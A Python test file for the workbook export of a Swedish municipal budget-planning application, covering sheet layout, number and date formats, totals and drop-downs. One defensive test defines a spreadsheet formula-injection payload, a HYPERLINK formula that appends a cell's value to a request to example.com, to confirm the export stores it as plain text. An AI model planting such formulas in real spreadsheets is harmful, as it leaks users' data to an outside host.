"""The exported workbook as a person opens it: sheets, formats, drop-downs, totals, safe text."""
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from budgetplan.document.workbook import export_case_workbook, import_workbook
from budgetplan.document.workbook.layout import SHEETS
from tests import factories
from tests.workbook.helpers import letter_of, open_book, row_where

INJECTION = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'


@pytest.fixture
def book(reference_case):
    return open_book(export_case_workbook(reference_case))


def validations(sheet) -> dict[str, str]:
    """Column letter -> the drop-down's list, for every list validation of the sheet."""
    found = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            found[cell_range.coord.split(":")[0].rstrip("0123456789")] = validation.formula1
    return found


def test_one_sheet_per_part_with_bold_frozen_headers(book):
    assert book.sheetnames == [spec.name for spec in SHEETS] + ["Läs mig", "Metadata", "Listor"]
    assert book["Metadata"].sheet_state == "hidden"  # what it was exported from, for the import
    assert book["Listor"].sheet_state == "hidden"  # drop-down lists with commas in their options
    for spec in SHEETS:
        sheet = book[spec.name]
        assert [cell.value for cell in sheet[1]] == [c.header for c in spec.columns], spec.name
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.freeze_panes == "A2"
    budget = book["Driftbudget"]
    assert budget.column_dimensions[letter_of(budget, "Avdelning")].width > len("Avdelning") + 3


def test_amounts_are_numbers_with_a_swedish_amount_format(book):
    sheet = book["Driftbudget"]
    costs, revenues = letter_of(sheet, "Kostnader"), letter_of(sheet, "Intäkter")
    first = sheet[f"{costs}2"]
    assert first.data_type == "n" and first.number_format == "#,##0.0"
    negative = [sheet[f"{revenues}{row}"] for row in range(2, 16) if (sheet[f"{revenues}{row}"].value or 0) < 0]
    assert negative, "the reference budget has negative revenues"
    assert all(cell.data_type == "n" and cell.number_format == "#,##0.0" for cell in negative)


def test_totals_are_formulas_next_to_the_rows(book):
    budget = book["Driftbudget"]
    total_row = row_where(budget, "Avdelning", "KS förslag till budget")
    assert total_row == 16  # header + 14 rows + the total
    for header in ("Kostnader", "Intäkter", "Netto"):
        letter = letter_of(budget, header)
        assert budget[f"{letter}{total_row}"].value == f"=SUM({letter}2:{letter}15)"
    assert budget["E2"].value == "=C2+D2"
    turnover = book["Omslutningsförändringar"]
    assert turnover["C12"].value == "=SUM(C2:C11)"


def test_dates_are_real_dates(book):
    activities = book["Aktiviteter"]
    start = activities[f"{letter_of(activities, 'Startdatum')}2"]
    assert isinstance(start.value, datetime.datetime) and start.is_date
    statement = book["Anförande"]
    assert statement[f"{letter_of(statement, 'Datum')}2"].value == datetime.datetime(2012, 1, 11)


def test_drop_downs_for_periodicity_and_targets(book):
    indicators = book["Indikatorer"]
    lists = validations(indicators)
    assert lists[letter_of(indicators, "Periodicitet")] == '"År,Halvår,Tertial,Kvartal,Månad"'
    kinds = lists[letter_of(indicators, "KF:s årsmål, typ")]
    assert "öka" in kinds and "tas fram av nämnden" in kinds
    assert lists[letter_of(indicators, "Årsmål, enhet")] == '"%,st,kWh,mnkr"'
    assert lists[letter_of(indicators, "I planen")] == '"Ja,Nej"'


def test_a_drop_down_whose_options_hold_commas_lists_them_whole(book):
    figures = book["Summor"]
    source = validations(figures)[letter_of(figures, "Summerar")]
    assert source.startswith("'Listor'!$A$1:$A$")
    options = [row[0] for row in book["Listor"].iter_rows(min_col=1, max_col=1, values_only=True)]
    assert options[:3] == [
        "Budgetjusteringar, alla slag", "Budgetjusteringar, driftbudget (nettokostnad)",
        "Budgetjusteringar, investeringsutgifter",
    ]
    assert "Omslutningsförändringar (tabellen och budgetjusteringar av det slaget)" in options


def test_goal_numbers_and_targets_keep_their_form(book):
    goals = book["KF-mål"]
    code = goals["A2"]
    assert code.value == "1.1" and code.data_type == "s" and code.number_format == "@"
    indicators = book["Indikatorer"]
    values = indicators[letter_of(indicators, "KF:s årsmål, tal")]
    assert any(cell.data_type == "n" for cell in values[1:])


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_is_written_as_text():
    change = factories.TurnoverChangeFactory(description=INJECTION, amount=Decimal("-22.0"))
    factories.TurnoverChangeFactory(frame=change.frame, description="+46 70 123 45 67")
    factories.TurnoverChangeFactory(frame=change.frame, description="@SUM(A1)")
    factories.TurnoverChangeFactory(frame=change.frame, description="-minskning")
    case = change.frame.case
    factories.RegistryNumberFactory(case=case, number="112-1/2012")

    data = export_case_workbook(case)
    sheet = load_workbook(io.BytesIO(data))["Omslutningsförändringar"]

    cell = sheet["B2"]
    assert cell.value == INJECTION
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert [sheet[f"B{row}"].data_type for row in range(2, 6)] == ["s"] * 4
    amount = sheet["C2"]  # a negative amount stays a number
    assert amount.value == -22 and amount.data_type == "n"
    # read back, the text is still text
    read_only = load_workbook(io.BytesIO(data), read_only=True)["Omslutningsförändringar"]
    assert next(read_only.iter_rows(min_row=2, max_row=2))[1].data_type == "s"
    report = import_workbook(data)
    assert report.ok and report.changes == []
